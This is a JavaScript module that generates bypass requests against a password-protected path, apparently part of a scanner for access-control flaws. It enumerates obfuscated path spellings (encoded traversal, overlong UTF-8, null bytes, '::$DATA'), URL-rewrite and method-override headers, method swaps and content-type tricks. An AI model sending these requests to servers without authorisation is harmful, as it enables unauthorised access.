// From a password entrance to the requests that might reach it: spellings of the path that some server folds onto it,
// shapes of the body, headers that rename the method or the target.
import { multipart, urlencoded } from './http.mjs';

const FORM = 'application/x-www-form-urlencoded';

/** Paths that somebody might take for this one. */
export function spellings(path) {
  const cut = path.lastIndexOf('/') + 1;
  const [above, last] = [path.slice(0, cut), path.slice(cut).replace(/^$/, '.')];
  const code = (text) => `%${text.charCodeAt(0).toString(16)}`;
  const stem = last.replace(/\/?$/, '');
  return [
    path.toUpperCase(),
    above + stem[0].toUpperCase() + stem.slice(1),
    `${path}/`, `${path}//`, `${path}.`, `${path}...`, `${path}%20`, `${path}%2e`, `${path}%09`, `${path}+`,
    `${path}/x`, `${path}/index.php`, `${path}/style.css`, `${path}/..`, `${path}/.`, `${path}%2f`, `${path}%2fx`,
    `${path};x`, `${path};jsessionid=1`, `${path};/x.css`, `${above};x=y/${stem}`, `${above}.;/${stem}`,
    `/${path}`, `//${path}`, `/.${path}`, `/x/..${path}`, `/%2e${path}`, `/%2e%2e${path}`, `/x/%2e%2e${path}`, `/x%2f..${path}`,
    `/index.php${path}`, `/en${path}`, `/x${path}`,
    above + code(stem) + stem.slice(1), above + code(stem).toUpperCase() + stem.slice(1),
    `${above}${stem.slice(0, -1)}${code(stem.slice(-1))}`,
    `${above}%25${code(stem).slice(1)}${stem.slice(1)}`, `${above}%u00${code(stem).slice(1)}${stem.slice(1)}`,
    `${above}%ef%bd%8c${stem.slice(1)}`, `${above}%c1%ac${stem.slice(1)}`,
    path.replace(/\//g, '\\'), path.replace(/\//g, '%5c').replace(/^%5c/, '/'), path.replace(/(.)\//g, '$1%2f'),
    `${path}.json`, `${path}.xml`, `${path}.css`, `${path}.php`, `${path}::$DATA`, `${path}%00`, `${path}%00.css`, `${path}~1`,
    `${path}?`, `${path}?x.css`, `${path}%3f`, `${path}#x`, `${path}&x`, `${path}$`, `${path}*`,
  ];
}

const HEADERS = [
  { 'x-original-url': 'PATH' }, { 'x-rewrite-url': 'PATH' }, { 'x-forwarded-uri': 'PATH' }, { 'x-forwarded-prefix': '/x' },
];
const METHODS = [
  { 'x-http-method-override': 'POST' }, { 'x-http-method': 'POST' }, { 'x-method-override': 'POST' },
];

/** Every attack on these entrances; `number` gives a new one for names that may be used once. */
export function attacks(entrances, number) {
  const list = [];
  for (const entrance of entrances) {
    const { name, path, query, effect, once, method = 'POST' } = entrance;
    const add = (more, marks = {}) => {
      const { fields: wanted = entrance.fields, target, cookie = entrance.cookie, headers, type, ...rest } = { type: entrance.type, ...more };
      const fields = typeof wanted === 'function' ? wanted(number()) : wanted;
      const body = 'body' in rest ? rest.body : entrance.body ?? (fields && urlencoded(fields));
      const request = {
        method: rest.method ?? method,
        target,
        cookie: cookie ?? '',
        headers: { ...(body !== undefined && { 'content-type': type ?? FORM }), ...entrance.headers, ...headers },
        ...(body !== undefined && (rest.method ?? method) !== 'GET' && { body }),
      };
      if (request.body === undefined) delete request.headers['content-type'];
      list.push({ name, effect, once, request, ...marks });
    };
    const at = (spelling) => (query ? `${spelling}${spelling.includes('?') ? '&' : '?'}${query}` : spelling);
    add({ target: at(path) }, { plain: true });
    for (const spelling of spellings(path)) add({ target: at(spelling) });
    add({ target: at(path) }, { absolute: true });
    for (const headers of METHODS) {
      add({ target: at(path), headers });
      add({ target: at(path), headers, method: 'GET' });
    }
    for (const headers of HEADERS) {
      const named = Object.fromEntries(Object.entries(headers).map(([key, value]) => [key, value.replace('PATH', path)]));
      add({ target: '/', headers: named });
    }
    const fields = typeof entrance.fields === 'function' ? entrance.fields(number()) : entrance.fields;
    if (fields) {
      const all = urlencoded(fields);
      const [first] = Object.keys(fields);
      const more = (text) => `${at(path)}${at(path).includes('?') ? '&' : '?'}${text}`;
      for (const other of ['GET', 'HEAD', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'PROPFIND', 'QUERY']) {
        add({ target: more(all), method: other, body: undefined });
      }
      add({ target: more('_method=GET') });
      add({ target: more(`${all}&_method=POST`), method: 'GET', body: undefined });
      add({ target: more(all), body: '' });
      add({ target: more(`${encodeURIComponent(first)}=x`) });
      add({ target: at(path), body: multipart(fields), type: 'multipart/form-data; boundary=xxportalxx' });
      add({ target: at(path), body: JSON.stringify(fields), type: 'application/json' });
      add({ target: at(path), body: JSON.stringify({ user: fields, data: [fields] }), type: 'application/json' });
      add({ target: at(path), body: all, type: 'text/plain' });
      add({ target: at(path), body: all, type: [] });
      add({ target: at(path), body: all, headers: { 'transfer-encoding': 'chunked' } });
      add({ target: at(path), body: all.replace(/^./, (letter) => `%${letter.charCodeAt(0).toString(16)}`) });
      add({ target: at(path), body: `${encodeURIComponent(first)}[]=x&${all}` });
      add({ target: at(path), body: `${all}&filler=${'x'.repeat(300_000)}` });
    }
    for (const one of entrance.more ?? []) add({ ...one });
  }
  return list;
}
